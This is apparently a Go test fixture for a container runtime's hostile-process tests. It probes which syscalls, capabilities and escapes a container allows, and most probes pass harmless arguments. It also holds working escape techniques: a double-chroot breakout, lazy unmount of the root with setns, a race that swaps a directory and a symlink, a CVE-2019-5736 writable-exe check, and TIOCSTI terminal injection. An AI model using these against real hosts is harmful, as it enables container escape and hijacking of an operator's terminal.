// Command attack tries one thing a hostile process in a container would try
// and prints one line saying what the kernel answered: "NAME: ok", or
// "NAME: ERRNO" ("keyctl: EPERM"). It always exits 0 when it could try, so
// that the tests compare that one line.
//
// It is a test fixture, not part of crate: cmd/crate's hostile tests build it
// (static, CGO_ENABLED=0) and copy it into their image as /attack. It lives
// under testdata so that `go build ./...` and `go vet ./...` leave it out.
//
// Every attempt is harmless even where it is allowed. Each one passes
// arguments the kernel rejects only after it has checked permission, so a
// refusal (EPERM from a missing capability or from seccomp) reads
// differently from "allowed, but the arguments are wrong" (EINVAL, ENOENT,
// ENODEV): reboot(2) with no magic numbers, swapon(2) of a file that does not
// exist, init_module(2) of an empty image, mount(2) of a file system type
// that does not exist, and so on. Nothing here writes to a kernel file, loads
// anything or stops any process.
package main

import (
	"errors"
	"fmt"
	"maps"
	"os"
	"os/signal"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attacks maps a subcommand to what it tries; each returns the result to
// print after "NAME: ".
var attacks = map[string]func(args []string) string{
	// Calls Docker's default seccomp profile refuses.
	"keyctl":          keyctl,
	"add_key":         addKey,
	"bpf":             bpf,
	"perf_event_open": perfEventOpen,
	"userfaultfd":     userfaultfd,
	"unshare-user":    unshareUser,
	"init_module":     initModule,
	"finit_module":    finitModule,
	"reboot":          reboot,
	"swapon":          swapon,
	"mount":           mountFS,
	"fsopen":          fsopen,
	"umount":          umount,
	"pivot_root":      pivotRoot,

	// Other processes: PID.
	"ptrace": ptrace,
	"kill":   kill,

	// Files: PATH, or a device.
	"open-write": openWrite,
	"mknod":      mknodAndRead,

	// Ways out of the root: MARKER, a host path.
	"chroot-escape": chrootEscape,
	"uncover-root":  uncoverRoot,

	// Not an attack: the signal the kernel sends this process when its
	// parent dies, which must be SIGKILL for a container's PID 1.
	"pdeathsig": pdeathsig,

	// What this process holds: its capability sets, read with system
	// calls (no /proc, which the container may have forged).
	"caps": caps,
	// Whether PATH exists, as this process's root sees it.
	"stat": statPath,

	// Processes that join the container (crate exec): MARKER, a host path.
	"watch-roots": watchRoots,

	// The operator's terminal, given as stdout without -t.
	"tty-read": ttyRead,
	"tiocsti":  tiocsti,

	// A PID 1 that chroots into DIR, with a forged /proc inside, and waits.
	"chroot-forge": chrootForge,

	// Makes DIR/d, a directory, and DIR/s, a symlink to the host's /, and
	// swaps them for ever: a walk of DIR from outside that finds d a
	// directory and then opens it by name opens /.
	"swap-dir-link": swapDirLink,

	// Does nothing: the child unshare-user starts.
	"noop": func([]string) string { return "" },
	// Prints "ready" and waits for ever: a PID 1 to exec into.
	"pause": func([]string) string { fmt.Println("ready"); pauseForEver(); return "" },
}

// init keeps main on the first thread, the one the process was executed on:
// the parent-death signal is that thread's.
func init() { runtime.LockOSThread() }

func pdeathsig([]string) string {
	var sig int32
	if _, _, errno := unix.Syscall(unix.SYS_PRCTL, unix.PR_GET_PDEATHSIG, uintptr(unsafe.Pointer(&sig)), 0); errno != 0 {
		return errno.Error()
	}
	return unix.SignalName(syscall.Signal(sig))
}

func main() {
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "usage: attack NAME [ARG...]; NAME is one of:")
		for _, name := range slices.Sorted(maps.Keys(attacks)) {
			fmt.Fprintln(os.Stderr, " ", name)
		}
		os.Exit(2)
	}
	name := os.Args[1]
	if res := attacks[name](os.Args[2:]); res != "" {
		fmt.Printf("%s: %s\n", name, res)
	}
}

// outcome turns an error into what the tests compare: "ok" or an errno's
// name, prefixed with the step when there are several.
func outcome(step string, err error) string {
	var res string
	var errno syscall.Errno
	switch {
	case err == nil:
		res = "ok"
	case errors.As(err, &errno):
		res = unix.ErrnoName(errno)
	default:
		res = err.Error()
	}
	if step != "" {
		return step + " " + res
	}
	return res
}

// arg returns the i-th argument, or exits saying which one is missing.
func arg(args []string, i int, what string) string {
	if i >= len(args) {
		fmt.Fprintf(os.Stderr, "attack %s: missing %s\n", os.Args[1], what)
		os.Exit(2)
	}
	return args[i]
}

func number(args []string, i int, what string) int {
	n, err := strconv.Atoi(arg(args, i, what))
	if err != nil {
		fmt.Fprintf(os.Stderr, "attack %s: %s: %v\n", os.Args[1], what, err)
		os.Exit(2)
	}
	return n
}

// keyctl looks up a keyring by a special id that does not exist: EINVAL
// where keyctl is allowed. Keyrings are not namespaced: they are the host's.
func keyctl([]string) string {
	_, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, -100, 0, 0, 0)
	return outcome("", err)
}

// addKey adds a key of a type that does not exist: ENODEV where allowed.
func addKey([]string) string {
	_, err := unix.AddKey("crate-no-such-type", "crate-test", nil, unix.KEY_SPEC_PROCESS_KEYRING)
	return outcome("", err)
}

// bpf creates a map from an all-zero description, which no map type accepts.
func bpf([]string) string {
	var attr [64]byte
	_, _, errno := unix.Syscall(unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr[0])), unsafe.Sizeof(attr))
	return outcome("", errnoOrNil(errno))
}

// perfEventOpen opens a dummy software counter on itself, user space only:
// the least perf_event_paranoid allows.
func perfEventOpen([]string) string {
	attr := unix.PerfEventAttr{
		Type:   unix.PERF_TYPE_SOFTWARE,
		Config: unix.PERF_COUNT_SW_DUMMY,
		Size:   uint32(unsafe.Sizeof(unix.PerfEventAttr{})),
		Bits:   unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv,
	}
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	return outcome("", err)
}

// userfaultfd asks for a user-mode-only descriptor, which needs no
// capability where the call is allowed.
func userfaultfd([]string) string {
	const uffdUserModeOnly = 1 // UFFD_USER_MODE_ONLY
	fd, _, errno := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|uffdUserModeOnly, 0, 0)
	if errno == 0 {
		unix.Close(int(fd))
	}
	return outcome("", errnoOrNil(errno))
}

// unshareUser starts a child in a new user namespace, with clone(2):
// unshare(2) could not tell, since it refuses CLONE_NEWUSER to any process
// with threads, and a Go program always has some.
func unshareUser([]string) string {
	self, err := os.Executable()
	if err != nil {
		return outcome("executable", err)
	}
	pid, err := syscall.ForkExec(self, []string{self, "noop"}, &syscall.ProcAttr{
		Files: []uintptr{0, 1, 2},
		Sys:   &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER},
	})
	if err != nil {
		return outcome("", err)
	}
	var status syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &status, 0, nil); err != nil {
		return outcome("wait", err)
	}
	if !status.Exited() || status.ExitStatus() != 0 {
		return fmt.Sprintf("child ended %v", status)
	}
	return "ok"
}

// initModule loads an empty module image: EINVAL or ENOEXEC where allowed.
func initModule([]string) string {
	return outcome("", unix.InitModule([]byte{}, ""))
}

// finitModule loads a module from no descriptor: EBADF where allowed.
func finitModule([]string) string {
	return outcome("", unix.FinitModule(-1, "", 0))
}

// reboot passes no magic numbers: EINVAL where allowed, checked after
// CAP_SYS_BOOT.
func reboot([]string) string {
	_, _, errno := unix.Syscall6(unix.SYS_REBOOT, 0, 0, 0, 0, 0, 0)
	return outcome("", errnoOrNil(errno))
}

// swapon names a file that does not exist: ENOENT where allowed.
func swapon([]string) string {
	p, err := unix.BytePtrFromString("/crate-no-such-swapfile")
	if err != nil {
		return outcome("", err)
	}
	_, _, errno := unix.Syscall(unix.SYS_SWAPON, uintptr(unsafe.Pointer(p)), 0, 0)
	return outcome("", errnoOrNil(errno))
}

// mountFS mounts a file system type that does not exist on /: ENODEV where
// allowed.
func mountFS([]string) string {
	return outcome("", unix.Mount("none", "/", "crate-no-such-fs", 0, ""))
}

// fsopen is the new mount API's first step, for a type that does not exist:
// ENODEV where allowed.
func fsopen([]string) string {
	fd, err := unix.Fsopen("crate-no-such-fs", unix.FSOPEN_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	return outcome("", err)
}

// umount unmounts this program's own file, which is no mount point: EINVAL
// where allowed.
func umount([]string) string {
	self, err := os.Executable()
	if err != nil {
		return outcome("executable", err)
	}
	return outcome("", unix.Unmount(self, unix.MNT_DETACH))
}

// pivotRoot names directories that do not exist: ENOENT where allowed.
func pivotRoot([]string) string {
	return outcome("", unix.PivotRoot("/crate-no-such-dir", "/crate-no-such-dir"))
}

// ptrace attaches to PID with PTRACE_SEIZE, which does not stop it; the
// kernel detaches when this program exits.
func ptrace(args []string) string {
	return outcome("", unix.PtraceSeize(number(args, 0, "PID")))
}

// kill sends PID signal 0, which only checks that it could be signalled.
func kill(args []string) string {
	return outcome("", unix.Kill(number(args, 0, "PID"), 0))
}

// openWrite opens PATH for writing and closes it without writing a byte
// (/proc/sysrq-trigger, /proc/sys/kernel/core_pattern: only a write acts).
func openWrite(args []string) string {
	fd, err := unix.Open(arg(args, 0, "PATH"), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	return outcome("", err)
}

// mknodAndRead makes a device node, b|c MAJOR:MINOR (a host disk, /dev/mem),
// at /dev/crate-attack, then opens it and reads its first 512 bytes; the
// first step refused says where the runtime stopped it.
func mknodAndRead(args []string) string {
	kind, majMin := arg(args, 0, "b|c"), arg(args, 1, "MAJOR:MINOR")
	major, minor, ok := strings.Cut(majMin, ":")
	maj, err1 := strconv.ParseUint(major, 10, 32)
	min, err2 := strconv.ParseUint(minor, 10, 32)
	if !ok || err1 != nil || err2 != nil || (kind != "b" && kind != "c") {
		fmt.Fprintf(os.Stderr, "attack mknod: want b|c MAJOR:MINOR, got %q %q\n", kind, majMin)
		os.Exit(2)
	}
	mode := uint32(unix.S_IFBLK)
	if kind == "c" {
		mode = unix.S_IFCHR
	}
	const node = "/dev/crate-attack"
	if err := unix.Mknod(node, mode|0o600, int(unix.Mkdev(uint32(maj), uint32(min)))); err != nil {
		return outcome("mknod", err)
	}
	defer unix.Unlink(node)
	fd, err := unix.Open(node, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return outcome("open", err)
	}
	defer unix.Close(fd)
	buf := make([]byte, 512)
	_, err = unix.Read(fd, buf)
	return outcome("read", err)
}

// chrootEscape is the classic double chroot: chroot into a subdirectory
// while the working directory stays outside it, climb with "..", which is
// no longer stopped at the root, and chroot to where it ends. It then looks
// for MARKER, a file the test made on the host outside the container's root:
// "host" if it sees it, "contained" if not, or the step that was refused.
// A Go program's threads share one root and working directory (CLONE_FS),
// so chroot and chdir here apply to all of them.
func chrootEscape(args []string) string {
	marker := arg(args, 0, "MARKER")
	const inner = "/tmp/crate-escape"
	if err := unix.Mkdir(inner, 0o755); err != nil && !errors.Is(err, unix.EEXIST) {
		return outcome("mkdir", err)
	}
	if err := unix.Chdir("/"); err != nil {
		return outcome("chdir", err)
	}
	if err := unix.Chroot(inner); err != nil {
		return outcome("chroot", err)
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return outcome("chdir ..", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return outcome("chroot .", err)
	}
	return whereAmI(marker)
}

// uncoverRoot lazily unmounts "/" and re-enters its own mount namespace,
// which sets the root to whatever is now mounted on the namespace's "/":
// after a chroot over a moved mount, the host's root; after pivot_root,
// nothing of the host. It then looks for MARKER, as chrootEscape does.
// Unmounting needs CAP_SYS_ADMIN; the container's mounts are private, so
// the host's own mount table is not touched.
func uncoverRoot(args []string) string {
	marker := arg(args, 0, "MARKER")
	ns, err := unix.Open("/proc/self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return outcome("open", err)
	}
	if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
		return outcome("umount", err)
	}
	// setns refuses a mount namespace to a thread sharing its root with
	// others, as every Go thread does: give this one its own, and never
	// hand it back to the runtime.
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return outcome("unshare", err)
	}
	if err := unix.Setns(ns, unix.CLONE_NEWNS); err != nil {
		return outcome("setns", err)
	}
	return whereAmI(marker)
}

// whereAmI says whether MARKER, a file on the host, can be seen: "host" if
// so, "contained" if it does not exist here.
func whereAmI(marker string) string {
	var st unix.Stat_t
	if err := unix.Stat(marker, &st); err != nil {
		if errors.Is(err, unix.ENOENT) {
			return "contained"
		}
		return outcome("stat", err)
	}
	return "host"
}

func errnoOrNil(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

// caps prints the capability sets: bounding (probed with PR_CAPBSET_READ up
// to the kernel's last capability, where the call answers EINVAL), then
// permitted, effective and inheritable (capget) and ambient, each as a
// hexadecimal mask.
func caps([]string) string {
	var bnd, amb uint64
	for n := 0; n < 64; n++ {
		r, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(n), 0, 0, 0)
		if err != nil {
			break // past the last capability
		}
		if r == 1 {
			bnd |= 1 << n
		}
		if r, err := unix.PrctlRetInt(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_IS_SET, uintptr(n), 0, 0); err == nil && r == 1 {
			amb |= 1 << n
		}
	}
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		return outcome("capget", err)
	}
	mask := func(f func(unix.CapUserData) uint32) uint64 { return uint64(f(data[0])) | uint64(f(data[1]))<<32 }
	return fmt.Sprintf("bnd=%#x prm=%#x eff=%#x inh=%#x amb=%#x", bnd,
		mask(func(d unix.CapUserData) uint32 { return d.Permitted }),
		mask(func(d unix.CapUserData) uint32 { return d.Effective }),
		mask(func(d unix.CapUserData) uint32 { return d.Inheritable }), amb)
}

// statPath says whether PATH exists here: "ok" or the errno.
func statPath(args []string) string {
	var st unix.Stat_t
	return outcome("", unix.Stat(arg(args, 0, "PATH"), &st))
}

// watchRoots watches the container's /proc for processes it has not seen,
// as fast as it can, and looks at each new one as an attacker holding
// CAP_SYS_PTRACE would: does its root lead to the host (MARKER, a file the
// test made on the host, can be seen through /proc/PID/root), and can its
// executable be opened for writing through /proc/PID/exe (the host's binary,
// CVE-2019-5736)? It marks each process it has looked at with a file
// /tmp/seen-PID, for processes that wait to be seen. It prints "ready", then
// watches until STOPFILE exists, and prints what it saw:
// "seen=N host=H exe-writable=W".
func watchRoots(args []string) string {
	marker, stopFile := arg(args, 0, "MARKER"), arg(args, 1, "STOPFILE")
	fmt.Println("ready")
	self := os.Getpid()
	seen := map[int]bool{}
	host, writable := 0, 0
	names := make([]string, 0, 64)
	for {
		var st unix.Stat_t
		if unix.Stat(stopFile, &st) == nil {
			return fmt.Sprintf("seen=%d host=%d exe-writable=%d", len(seen), host, writable)
		}
		d, err := os.Open("/proc")
		if err != nil {
			return outcome("open /proc", err)
		}
		names, _ = d.Readdirnames(-1)
		d.Close()
		for _, name := range names {
			pid, err := strconv.Atoi(name)
			if err != nil || pid == self || pid == 1 || seen[pid] {
				continue
			}
			seen[pid] = true
			var st unix.Stat_t
			if unix.Stat(fmt.Sprintf("/proc/%d/root%s", pid, marker), &st) == nil {
				host++
			}
			if fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Close(fd)
				writable++
			}
			os.WriteFile(fmt.Sprintf("/tmp/seen-%d", pid), nil, 0o644)
		}
	}
}

// ttyRead reads, without waiting, from its stdout, which a terminal given
// as stdout also is open for: "ok DATA" if it read what the operator typed.
func ttyRead([]string) string {
	if err := unix.SetNonblock(1, true); err != nil {
		return outcome("nonblock", err)
	}
	buf := make([]byte, 256)
	n, err := unix.Read(1, buf)
	if err != nil {
		return outcome("", err)
	}
	return "ok " + strings.TrimSpace(string(buf[:n]))
}

// tiocsti pushes a character into the input of the terminal on its stdout,
// as if the operator had typed it (with CAP_SYS_ADMIN: the terminal is not
// its controlling terminal).
func tiocsti([]string) string {
	c := byte('#')
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, 1, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
	return outcome("", errnoOrNil(errno))
}

// chrootForge is a hostile PID 1: it makes DIR with itself inside and a
// forged /proc/sys/kernel/cap_last_cap of -1, chroots into DIR (which needs
// only CAP_SYS_CHROOT, a default capability), prints "ready" and waits. A
// runtime that reads the kernel's facts from the root of PID 1 is fooled.
func chrootForge(args []string) string {
	dir := arg(args, 0, "DIR")
	if err := os.MkdirAll(dir+"/proc/sys/kernel", 0o755); err != nil {
		return outcome("mkdir", err)
	}
	if err := os.WriteFile(dir+"/proc/sys/kernel/cap_last_cap", []byte("-1\n"), 0o644); err != nil {
		return outcome("forge", err)
	}
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return outcome("read self", err)
	}
	if err := os.WriteFile(dir+"/attack", self, 0o755); err != nil {
		return outcome("copy self", err)
	}
	if err := unix.Chroot(dir); err != nil {
		return outcome("chroot", err)
	}
	if err := unix.Chdir("/"); err != nil {
		return outcome("chdir", err)
	}
	fmt.Println("ready")
	pauseForEver()
	return ""
}

func swapDirLink(args []string) string {
	dir := arg(args, 0, "DIR")
	if err := os.MkdirAll(dir+"/d", 0o755); err != nil {
		return outcome("mkdir", err)
	}
	if err := os.WriteFile(dir+"/d/file", []byte("x"), 0o644); err != nil {
		return outcome("write", err)
	}
	if err := os.Symlink("/", dir+"/s"); err != nil {
		return outcome("symlink", err)
	}
	if err := unix.Renameat2(unix.AT_FDCWD, dir+"/d", unix.AT_FDCWD, dir+"/s", unix.RENAME_EXCHANGE); err != nil {
		return outcome("exchange", err)
	}
	fmt.Println("ready")
	for {
		unix.Renameat2(unix.AT_FDCWD, dir+"/d", unix.AT_FDCWD, dir+"/s", unix.RENAME_EXCHANGE)
	}
}

// pauseForEver waits until SIGTERM or SIGINT, and exits 0 then: as PID 1
// it would otherwise ignore both (crate stop).
func pauseForEver() {
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, unix.SIGTERM, unix.SIGINT)
	<-sigs
	os.Exit(0)
}
